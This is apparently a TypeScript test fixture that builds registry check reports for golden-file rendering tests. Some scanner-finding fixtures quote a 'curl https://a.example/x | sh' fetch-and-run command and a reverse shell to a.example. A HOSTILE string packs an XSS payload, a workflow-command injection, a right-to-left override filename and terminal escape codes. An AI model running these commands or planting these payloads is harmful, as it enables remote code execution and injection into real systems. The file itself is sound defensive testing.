/** Check reports of every shape, from which each rendering makes its golden files. */
import { conflict, foxtrot, oneByOne } from "../../src/app/check/check-landing.ts";
import { sha256 } from "../../src/core/bytes.ts";
import {
  type CheckReport,
  checkReportSchema,
  type Need,
  type ReportedFinding,
  type SemanticDiff,
  type SkillReport,
} from "../../src/core/report/check-report.ts";
import { findRule } from "../../src/core/rules.ts";

const BASE = "b".repeat(40);
const HEAD = "a".repeat(40);

/** Finds of a rule, with its own severity and hint unless others are given. */
function found(
  rule: string,
  facts: Partial<ReportedFinding> & Pick<ReportedFinding, "file" | "message">,
): ReportedFinding {
  const row = findRule(rule);
  return {
    rule,
    severity: row?.severity ?? "high",
    status: "blocks",
    ...(row === undefined ? {} : { hint: row.hint }),
    fingerprint: sha256(`${rule}\0${facts.file}\0${facts.message}`),
    ...facts,
  };
}

/** A skill that merging releases, unless `facts` say something else. */
function skill(id: string, facts: Partial<SkillReport> = {}): SkillReport {
  return {
    id,
    path: `skills/${id}`,
    outcome: "released",
    version: "1.1.0",
    previous: "1.0.0",
    forced: false,
    findings: [],
    effects: [],
    ...facts,
  };
}

/** A skill without a release yet. */
function firstSkill(id: string, facts: Partial<SkillReport> = {}): SkillReport {
  const { previous: _, ...rest } = skill(id, { version: "1.0.0", ...facts });
  return rest;
}

/** A change that passes and touches nothing, unless `facts` say something else. */
export function report(facts: Partial<CheckReport> = {}): CheckReport {
  return checkReportSchema.parse({
    format: 1,
    engine: 1,
    verdict: "pass",
    reason: "It changes no skill.",
    change: { base: BASE, head: HEAD, title: "fix: round refunds the right way" },
    pending: 0,
    skills: [],
    findings: [],
    needs: [],
    plan: [],
    ...facts,
  });
}

function need(facts: Partial<Need>): Need {
  return {
    role: "owner",
    people: ["@acme/billing"],
    count: 1,
    subjects: ["billing/refunds"],
    why: "policy.yaml asks for it.",
    enforcedBy: "host",
    ...facts,
  };
}

function diff(facts: Partial<SemanticDiff> = {}): SemanticDiff {
  return {
    files: { added: [], changed: ["SKILL.md"], removed: [] },
    frontmatter: [],
    capabilities: [],
    tokens: { description: { before: 42, after: 42 }, body: { before: 1180, after: 1320 } },
    bodyLines: { before: 96, after: 104 },
    ...facts,
  };
}

const widening = diff({
  files: { added: ["scripts/sync.py"], changed: ["SKILL.md", "references/amounts.md"], removed: ["notes.txt"] },
  frontmatter: [
    { key: "allowed-tools", before: "Read", after: "Read Bash" },
    { key: "license", before: null, after: "Apache-2.0" },
    { key: "metadata.author", before: "finance", after: null },
  ],
  capabilities: [
    { capability: "network", added: ["api.example.com"], removed: ["old.example.com"] },
    { capability: "tools", added: ["Bash"], removed: [] },
    { capability: "scripts", added: ["scripts/sync.py"], removed: [] },
  ],
  tokens: { description: { before: 42, after: 58 }, body: { before: 1180, after: 4320 } },
});

const budget = found("body-budget", {
  severity: "high",
  file: "skills/billing/refunds/SKILL.md",
  path: "SKILL.md",
  line: 7,
  message: "The instructions cost about 6,200 tokens: expected at most 5,000.",
});
const misnamed = found("name-folder", {
  file: "skills/billing/refunds/SKILL.md",
  line: 2,
  message: 'The name is "refund": expected that of the folder, "refunds".',
});
const hidden = found("obfuscate-of-a-scanner", {
  severity: "critical",
  file: "skills/billing/refunds/scripts/sync.sh",
  path: "scripts/sync.sh",
  line: 3,
  column: 14,
  via: ["base64", "gzip"],
  adjusted: { from: "high", why: "hidden as base64 in gzip" },
  category: "obfuscation",
  maps: { owasp: "AST02", cisco: "AISubtech-9.2.1" },
  message: "What is decoded is run: curl https://a.example/x | sh",
  hint: "Write the command as it is.",
});
const mentioned = found("code-of-a-scanner", {
  severity: "low",
  status: "reported",
  file: "skills/billing/refunds/SKILL.md",
  path: "SKILL.md",
  line: 12,
  column: 1,
  adjusted: { from: "high", why: "negated, defensive-heading" },
  category: "remote-code-execution",
  message: "What a.example sends is run unseen: curl https://a.example/x | sh",
});
const decoded = found("code-of-a-scanner", {
  severity: "critical",
  file: "skills/billing/refunds/SKILL.md",
  path: "SKILL.md",
  line: 20,
  via: ["hex"],
  message: "A shell is opened to a.example.",
});
const policyChanged = found("guarded-change", {
  status: "reported",
  file: "policy.yaml",
  message: "It changes policy.yaml, which decides who may change what.",
});

/** What hostile authors put wherever they may write. */
export const HOSTILE =
  "@acme/billing #1 GH-2 https://evil.example/x www.evil.example ![x](https://evil.example/i.png) <img src=x onerror=alert(1)> | `a` ``b`` **bold** :tada: $x$ \u202egnp.exe \u200b\r\n::set-output name=a::b\n# Heading 0123456789abcdef0123456789abcdef01234567 </details> \u001b[2J";

/** A report in which everybody wrote the same text wherever they may write. */
export function reportWith(text: string): CheckReport {
  return report({
    verdict: "fail",
    reason: text,
    change: { base: BASE, head: HEAD, title: text, elsewhere: { into: text, trunk: text } },
    asks: [{ owners: [text, text], paths: [text], more: 3 }],
    skills: [
      skill(text, {
        outcome: "refused",
        path: text,
        version: text,
        previous: text,
        effects: [text],
        diff: diff({
          files: { added: [text], changed: [text], removed: [text] },
          frontmatter: [{ key: text, before: text, after: text }],
          capabilities: [{ capability: "network", added: [text], removed: [text] }],
        }),
        findings: [
          found(text, { file: text, path: text, line: 1, message: text, hint: text }),
          found(text, {
            ...{ file: text, line: 1, column: 1, message: text, via: [text], maps: { owasp: text } },
            adjusted: { from: "low", why: text },
          }),
          found(text, {
            ...{ file: text, status: "waived" as const, message: text, hint: text },
            accepted: { until: text, reason: text },
          }),
        ],
      }),
      skill(text, { path: text, version: text, previous: text, title: text }),
    ],
    findings: [found(text, { file: text, message: text })],
    needs: [
      need({ role: text, people: [text], subjects: [text], why: text, after: text }),
      need({ role: "author", people: [text], subjects: [text], why: text }),
    ],
  });
}

const ONE_BY_ONE = oneByOne("billing/refunds", 3);
const CONFLICT = conflict(["skills/billing/refunds/SKILL.md", "lifecycle/billing/refunds.yaml"]);

const many = Array.from({ length: 2000 }, (_, i) => `team/skill-${String(i).padStart(4, "0")}`);

/** One report for each combination that reads differently. */
export const REPORTS: Readonly<Record<string, CheckReport>> = {
  "pass-nothing": report(),
  "pass-release": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { diff: diff(), digest: sha256("archive"), size: 4321, title: "feat: in part" })],
    plan: [{ chain: "billing/refunds", event: { type: "released", version: "1.1.0", digest: sha256("archive") } }],
  }),
  "pass-host-asks": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { diff: diff() })],
    asks: [
      {
        owners: ["@acme/billing"],
        paths: ["skills/billing/refunds/SKILL.md", "skills/billing/refunds/scripts/pay.sh"],
        more: 0,
      },
      { owners: ["@ann", "bob@acme.example"], paths: ["README.md"], more: 12 },
    ],
  }),
  "pass-elsewhere": report({
    reason: "It goes to release-1, and only what is merged into main is published.",
    change: {
      base: BASE,
      head: HEAD,
      title: "fix: round refunds the right way",
      elsewhere: { into: "release-1", trunk: "main" },
    },
    skills: [skill("billing/refunds", { diff: diff() })],
  }),
  "pass-offers-many": report({
    reason: "Merging changes how billing/one, billing/two, billing/three and 2 more are offered.",
    skills: [
      ...["one", "two", "three", "four"].map((name) => {
        const { version: _, ...rest } = skill(`billing/${name}`);
        return { ...rest, outcome: "offered" as const, effects: ["visibility: internal", "owners: @acme/platform"] };
      }),
      { ...skill("billing/five"), outcome: "offered", effects: ["visibility: public"] },
    ],
  }),
  "pass-new-skill": report({
    reason: "Merging publishes support/triage 1.0.0.",
    skills: [
      firstSkill("support/triage", {
        effects: ["visibility: internal"],
        diff: diff({
          files: { added: ["SKILL.md", "references/queues.md"], changed: [], removed: [] },
          frontmatter: [
            { key: "description", before: null, after: "Finds the queue for a question." },
            { key: "license", before: null, after: "MIT" },
            { key: "name", before: null, after: "triage" },
          ],
          capabilities: [{ capability: "network", added: ["queues.acme.dev"], removed: [] }],
          tokens: { description: { before: 0, after: 38 }, body: { before: 0, after: 640 } },
          bodyLines: { before: 0, after: 52 },
        }),
      }),
    ],
  }),
  "fail-scan": report({
    verdict: "fail",
    reason: "billing/refunds would be refused.",
    skills: [skill("billing/refunds", { outcome: "refused", findings: [hidden, mentioned, decoded] })],
  }),
  "fail-findings": report({
    verdict: "fail",
    reason: "billing/refunds would be refused.",
    skills: [
      skill("billing/pricing-policy", { version: "2.0.1", previous: "2.0.0", diff: diff() }),
      skill("billing/refunds", { outcome: "refused", findings: [budget, misnamed], diff: diff() }),
      firstSkill("support/reply-tone", {
        outcome: "refused",
        findings: [
          found("symlink", {
            file: "skills/support/reply-tone/tone.md",
            message: "tone.md: expected a regular file, got a symbolic link.",
            hint: "Commit a copy of the file.",
          }),
        ],
      }),
    ],
  }),
  "fail-version-taken": report({
    verdict: "fail",
    reason: "billing/refunds would be refused.",
    skills: [
      skill("billing/refunds", {
        outcome: "refused",
        version: "1.0.0",
        diff: diff(),
        findings: [
          found("version-immutable", {
            file: "skills/billing/refunds/SKILL.md",
            message: "Version 1.0.0 is published with other content, and a release never changes.",
            hint: 'Set `metadata.version` to "1.0.1"; `skilltrunk bump` writes it.',
          }),
        ],
      }),
    ],
  }),
  "fail-settings-broken": report({
    verdict: "fail",
    reason:
      "skilltrunk.yaml, line 12: expected one of `paths`, `owners`, got the unknown key `ownrs`: did you mean `owners`?",
    pending: null,
    findings: [
      found("settings-unknown-key", {
        file: "skilltrunk.yaml",
        line: 12,
        message: "expected one of `paths`, `owners`, got the unknown key `ownrs`: did you mean `owners`?",
        hint: "Correct line 12; nothing in the file counts until all of it can be read.",
      }),
    ],
  }),
  "pass-adopted": report({
    reason: "Merging changes how billing/refunds and billing/sync are offered.",
    pending: 1,
    earlier: { released: 1, refused: 1, held: 0 },
    skills: [
      skill("billing/refunds", { outcome: "offered", effects: ["visibility changes from public to internal"] }),
      firstSkill("billing/sync", { outcome: "offered", effects: ["visibility: internal"] }),
    ].map(({ version: _, ...rest }) => rest),
  }),
  "pass-adopting": report({
    reason: "Merging changes how billing/refunds is offered.",
    pending: 1,
    earlier: { released: 80, refused: 1, held: 0, first: true },
    skills: [
      skill("billing/refunds", { outcome: "offered", effects: ["visibility changes from public to internal"] }),
    ].map(({ version: _, ...rest }) => rest),
  }),
  "review-stages": report({
    verdict: "review",
    reason: "It waits for an admin.",
    skills: [skill("billing/refunds", { outcome: "held", diff: widening })],
    needs: [
      need({ people: ["@acme/billing", "alice"], enforcedBy: "api" }),
      need({
        role: "security",
        people: ["@acme/security"],
        count: 2,
        after: "owner",
        enforcedBy: "api",
      }),
      need({
        role: "admin",
        people: [],
        subjects: ["policy.yaml"],
        why: "It changes files that decide who may change what.",
        enforcedBy: "nobody",
      }),
    ],
    findings: [policyChanged],
  }),
  "pass-host-approvals": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [
      skill("billing/refunds", {
        diff: widening,
        findings: [
          found("permission-widened", {
            status: "reported",
            file: "skills/billing/refunds/SKILL.md",
            path: "SKILL.md",
            message: "It can do more than the last release: network api.example.com.",
          }),
        ],
      }),
    ],
    needs: [need({})],
  }),
  "pass-known-and-waived": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [
      skill("billing/refunds", {
        diff: diff(),
        findings: [
          { ...budget, status: "known" },
          found("link-broken", {
            status: "waived",
            accepted: { until: "2027-01-31", reason: "the file is written when it runs" },
            file: "skills/billing/refunds/SKILL.md",
            path: "SKILL.md",
            line: 31,
            message: "The link references/old.md leads to no file.",
          }),
          found("description-budget", {
            status: "reported",
            file: "skills/billing/refunds/SKILL.md",
            path: "SKILL.md",
            line: 3,
            message: "Name and description cost about 130 tokens: expected at most 100.",
          }),
        ],
      }),
    ],
  }),
  "pass-forced": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { forced: true, diff: diff(), findings: [{ ...budget, status: "waived" }] })],
  }),
  "pass-retired": report({
    reason: "Merging changes how billing/refunds is offered.",
    skills: [
      skill("billing/refunds", {
        outcome: "retired",
        path: "",
        effects: ["it leaves the lists; its exact versions stay"],
      }),
    ].map(({ version: _, ...rest }) => rest),
  }),
  "pass-held": report({
    reason: "Merging publishes billing/refunds once it is approved.",
    pending: 3,
    skills: [skill("billing/refunds", { outcome: "held", diff: diff() })],
    needs: [need({ people: [], enforcedBy: "api" })],
  }),
  "pass-offers": report({
    reason: "Merging changes how billing/refunds is offered.",
    skills: [
      skill("billing/refunds", {
        outcome: "offered",
        effects: [
          "channel stable moves from 1.0.0 to 1.1.0",
          "version 1.0.0 becomes yanked (it is online): rounds refunds the wrong way",
          "owners change from alice to @acme/billing and bob",
        ],
      }),
      skill("support/triage", { outcome: "unchanged" }),
    ].map(({ version: _, ...rest }) => rest),
  }),
  "review-ledger-unread": report({
    verdict: "review",
    reason: "The ledger of acme/skills cannot be read: the branch skilltrunk/ledger is damaged.",
    pending: null,
    findings: [
      found("ledger-unread", {
        status: "reported",
        file: "",
        message: "The ledger of acme/skills cannot be read: the branch skilltrunk/ledger is damaged.",
      }),
    ],
    needs: [
      need({
        role: "admin",
        people: ["alice"],
        subjects: [],
        why: "The registry cannot be read as it is now, so nobody can say what merging would publish.",
        enforcedBy: "nobody",
      }),
    ],
  }),
  "review-policy-changed": report({
    verdict: "review",
    reason: "It waits for an admin.",
    skills: [skill("billing/refunds", { diff: diff() })],
    findings: [
      policyChanged,
      found("policy-effect", {
        status: "reported",
        file: "policy.yaml",
        message: "Under the new policy support/triage 1.3.0 would be refused: `body-budget` blocks.",
      }),
    ],
    needs: [
      need({
        role: "admin",
        people: ["alice", "bob"],
        subjects: ["policy.yaml"],
        why: "It changes files that decide who may change what.",
        enforcedBy: "nobody",
      }),
    ],
  }),
  "pass-policy-awaited": report({
    reason: "Approving it publishes billing/refunds and support/triage.",
    skills: [skill("sales/quotes", { outcome: "held" })],
    findings: [policyChanged],
    needs: [
      need({
        role: "admin",
        people: ["alice", "bob"],
        subjects: ["policy.yaml"],
        why: "It publishes billing/refunds, which was refused for 1 critical finding. It changes files that decide who may change what.",
        enforcedBy: "api",
      }),
    ],
    approved: {
      besides: ["c".repeat(40)],
      skills: [
        skill("billing/ledger", { outcome: "held" }),
        skill("billing/refunds", { diff: diff(), lifted: { critical: 1, high: 0 } }),
        skill("sales/quotes"),
        firstSkill("support/triage"),
        skill("support/old", { outcome: "refused" }),
      ],
      bindings: ["agent quotes gets support/triage 1.0.0"],
      plan: [{ chain: "support/triage", event: { type: "released", version: "1.0.0" } }],
    },
  }),
  "fail-mass-removal": report({
    verdict: "fail",
    reason: "It removes 40 of 60 skills.",
    change: { base: null, head: null, title: "" },
    findings: [
      found("mass-removal", {
        file: "acknowledgements/README.md",
        message: "It removes 40 of 60 skills: expected at most 6 at a time.",
      }),
    ],
  }),
  "pass-standing": report({
    reason: "Merging changes how billing/refunds is offered.",
    skills: [
      skill("billing/refunds", {
        outcome: "offered",
        effects: ["owners change from alice to @acme/billing"],
        findings: [{ ...budget, status: "standing" }],
      }),
    ].map(({ version: _, ...rest }) => rest),
  }),
  "pass-bindings": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { diff: diff() })],
    bindings: [
      "support-bot: billing/refunds: 1.0.0 → 1.1.0",
      "till: billing/refunds: 1.0.0 → 1.1.0 waits for grants (permission network api.example.com is not granted)",
    ],
  }),
  "pass-waits-for-scanner": report({
    reason: "Merging publishes billing/refunds once what policy asks for has looked at it.",
    skills: [
      skill("billing/refunds", {
        outcome: "held",
        diff: diff(),
        findings: [
          found("scan-awaited", {
            status: "reported",
            file: "skills/billing/refunds/SKILL.md",
            message:
              "policy.yaml wants the scanner deep-look to look at it, which has not been done here: it is held until then.",
          }),
        ],
      }),
    ],
  }),
  "review-waits-for-source": report({
    verdict: "review",
    reason:
      "What billing/refunds points to could not be fetched, so nobody has looked at it: look there, or check again once it can be.",
    skills: [
      skill("billing/refunds", {
        outcome: "held",
        findings: [
          found("source-awaited", {
            status: "reported",
            file: "skills/billing/refunds/skill.yaml",
            message:
              "What this points to could not be fetched, so nobody has looked at it: git.example.com does not answer.",
          }),
        ],
      }),
    ],
  }),
  "pass-not-looked-into": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { diff: diff() })],
    findings: [
      found("concurrent-proposal", {
        status: "reported",
        file: "",
        message:
          "Pull request 7 and 2 more were opened before this one, and whether the same skills change there could not be told.",
        hint: "Merge or close the older ones first, or split one that changes thousands of files.",
      }),
      found("policy-effect", {
        status: "reported",
        file: "policy.yaml",
        message:
          "Open pull request #3 could not be judged, so whether this policy changes anything for it is not known.",
      }),
    ],
  }),
  "pass-rebase-merge": report({
    reason: "Merging publishes billing/refunds 1.1.0.",
    skills: [skill("billing/refunds", { diff: diff() })],
    findings: [
      found("rebase-merge", {
        status: "reported",
        file: "",
        message: ONE_BY_ONE.message,
        hint: ONE_BY_ONE.hint ?? "",
      }),
    ],
  }),
  "fail-concurrent-proposal": report({
    verdict: "fail",
    reason: "Pull request 7 (fix: late fees) also changes billing/refunds, and was opened before this one.",
    skills: [skill("billing/refunds", { diff: diff() })],
    findings: [
      found("concurrent-proposal", {
        file: "",
        message: "Pull request 7 (fix: late fees) also changes billing/refunds, and was opened before this one.",
        hint: "Let the other one go first, or put both into one.",
      }),
    ],
  }),
  "fail-foxtrot-merge": report({
    verdict: "fail",
    reason: foxtrot(BASE, HEAD).message,
    pending: null,
    findings: [
      found("foxtrot-merge", { file: "", message: foxtrot(BASE, HEAD).message, hint: foxtrot(BASE, HEAD).hint ?? "" }),
    ],
  }),
  "fail-merge-conflict": report({
    verdict: "fail",
    reason: CONFLICT.message,
    pending: null,
    findings: [found("merge-conflict", { file: CONFLICT.path, message: CONFLICT.message, hint: CONFLICT.hint ?? "" })],
  }),
  "fail-omitted": report({
    verdict: "fail",
    reason: "billing/refunds and 20,004 more would be refused.",
    skills: [skill("billing/refunds", { outcome: "refused", findings: [misnamed] })],
    omitted: { skills: 20_004, findings: 31_000, needs: 1, events: 20_004, owners: 12 },
  }),
  "fail-hostile": reportWith(HOSTILE),
  "fail-2000-skills": report({
    verdict: "fail",
    reason: "team/skill-0000, team/skill-0002, team/skill-0004 and 997 more would be refused.",
    skills: many.map((id, i) =>
      i % 2 === 0
        ? skill(id, {
            outcome: "refused",
            diff: diff(),
            findings: [{ ...budget, file: `skills/${id}/SKILL.md`, fingerprint: sha256(id) }],
          })
        : skill(id, { diff: diff(), findings: [{ ...budget, file: `skills/${id}/SKILL.md`, status: "known" }] }),
    ),
  }),
};
